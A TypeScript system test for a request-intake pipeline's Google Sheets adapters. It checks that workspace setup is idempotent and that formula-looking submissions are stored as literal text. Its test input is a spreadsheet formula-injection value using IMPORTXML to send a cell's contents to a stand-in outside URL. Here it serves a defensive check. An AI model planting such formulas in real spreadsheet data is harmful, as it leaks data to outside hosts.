// The same adapters against a real Google spreadsheet, when an admin provides one:
//   SYSTEM_SPREADSHEET_ID=<a scratch spreadsheet shared with the credentials' account>
//   GOOGLE_APPLICATION_CREDENTIALS=<service account key> (or gcloud application-default login)
//   npm run test:system
// It sets the workspace up in that spreadsheet, records a request with formula-looking
// text through the production pipeline, checks it reads back literally, and deletes the
// tabs it created. Without SYSTEM_SPREADSHEET_ID it is skipped, and says so.
import { afterAll, describe, expect, test } from 'vitest';
import { sheetsApi, SheetsWorkspace } from '../../shared/adapters/sheets';
import { setupWorkspace } from '../../shared/adapters/sheets-setup';
import { IN_PROCESS_ONLY } from '../../shared/lease/guard';
import { createIntakePipeline } from '../../shared/pipeline/intake';
import type { Mailer, OutgoingEmail } from '../../shared/ports';
import { workspaceSpec } from '../../shared/workspace/workspace-spec';
import { validBody } from '../support/submissions';

const spreadsheetId = process.env.SYSTEM_SPREADSHEET_ID;
// Unset for Google itself; set it to try the suite against the local emulator.
const rootUrl = process.env.GOOGLE_ROOT_URL;
const reason = 'SKIPPED: set SYSTEM_SPREADSHEET_ID (and Google credentials) to run against a real spreadsheet';
process.env.LOG_LEVEL = 'silent';

describe.skipIf(!spreadsheetId)(spreadsheetId ? 'a real spreadsheet' : reason, () => {
  const api = sheetsApi({ rootUrl });
  let before: string[] = [];

  afterAll(async () => {
    if (!spreadsheetId) return;
    const meta = await api.spreadsheets.get({ spreadsheetId, fields: 'sheets(properties(sheetId,title))' });
    const ours = (meta.data.sheets ?? []).filter((s) => !before.includes(s.properties?.title ?? ''));
    if (ours.length) {
      await api.spreadsheets.batchUpdate({
        spreadsheetId,
        requestBody: { requests: ours.map((s) => ({ deleteSheet: { sheetId: s.properties!.sheetId! } })) },
      });
    }
  });

  test('setup twice: the second run plans nothing, in whatever locale the spreadsheet has', async () => {
    const meta = await api.spreadsheets.get({ spreadsheetId: spreadsheetId!, fields: 'properties(locale),sheets(properties(title))' });
    before = (meta.data.sheets ?? []).map((s) => s.properties?.title ?? '');
    await setupWorkspace({ spreadsheetId: spreadsheetId!, rootUrl, spec: workspaceSpec() });
    // Formulas written with `;` read back in the locale's syntax: compared after normalising.
    const again = await setupWorkspace({ spreadsheetId: spreadsheetId!, rootUrl, spec: workspaceSpec(), dryRun: true });
    expect(again.steps).toEqual([]);
    const after = await api.spreadsheets.get({ spreadsheetId: spreadsheetId!, fields: 'properties(locale)' });
    expect(after.data.properties?.locale).toBe(meta.data.properties?.locale);
  });

  test('a request with formula-looking text is recorded and reads back as text', async () => {
    const sent: OutgoingEmail[] = [];
    const mailer: Mailer = { send: async (e) => (sent.push(e), { messageId: `system-${sent.length}` }) };
    const pipeline = createIntakePipeline({
      store: new SheetsWorkspace({ spreadsheetId: spreadsheetId!, rootUrl }),
      guard: IN_PROCESS_ONLY, // one process writes here
      mailer,
      staffEmails: ['staff@example.org'],
      logger: { log: () => undefined },
    });
    const name = '=IMPORTXML("https://example.org/?q="&A1,"//a")';
    const out = await pipeline.submit({ kind: 'json', body: validBody({ submissionId: `system-${Date.now()}`, contactName: name }) });
    expect(out).toMatchObject({ status: 'created' });
    const res = await api.spreadsheets.values.get({ spreadsheetId: spreadsheetId!, range: "'Sol·licituds'", valueRenderOption: 'FORMULA' });
    expect(JSON.stringify(res.data.values)).toContain(JSON.stringify(name).slice(1, -1));
    expect(sent.length).toBe(2);
  });
});
